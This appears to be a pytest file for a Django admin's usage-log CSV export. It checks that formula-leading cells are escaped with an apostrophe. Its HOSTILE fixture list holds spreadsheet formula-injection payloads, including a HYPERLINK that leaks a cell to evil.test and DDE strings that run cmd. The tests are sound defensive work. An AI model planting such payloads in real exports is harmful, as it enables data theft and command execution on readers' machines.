"""The admin's CSV export never hands a spreadsheet a formula: clients choose their user agent and model name."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from routing.models import UsageLog
from routing.usage_export import safe_cell
from tests.factories import make_staff

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def admin_client():
    client = Client()
    client.force_login(make_staff("root", "routing.view_usagelog"))
    return client


def exported(client: Client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_cells_a_spreadsheet_would_run_are_exported_as_text(admin_client):
    for i, value in enumerate(HOSTILE):
        UsageLog.objects.create(request_id=f"req_{i}", user_agent=value, requested_model=value, error_message=value)
    rows = exported(admin_client, "/admin/routing/usagelog/export.csv")
    by_id = {row["request_id"]: row for row in rows}
    for i, value in enumerate(HOSTILE):
        row = by_id[f"req_{i}"]
        assert row["user_agent"] == row["requested_model"] == row["error_message"] == "'" + value


def test_the_selected_rows_action_escapes_too(admin_client):
    row = UsageLog.objects.create(request_id="req_x", user_agent="=1+1")
    response = admin_client.post(
        "/admin/routing/usagelog/", {"action": "export_selected", "_selected_action": [row.pk]}
    )
    [exported_row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert exported_row["user_agent"] == "'=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("claude-haiku", "claude-haiku", id="ordinary-text"),
        pytest.param("a=b", "a=b", id="formula-sign-inside"),
        pytest.param("", "", id="empty"),
        pytest.param(-5, -5, id="numbers-stay-numbers"),
        pytest.param(None, None, id="null"),
    ],
)
def test_ordinary_cells_are_left_alone(value, expected):
    assert safe_cell(value) == expected
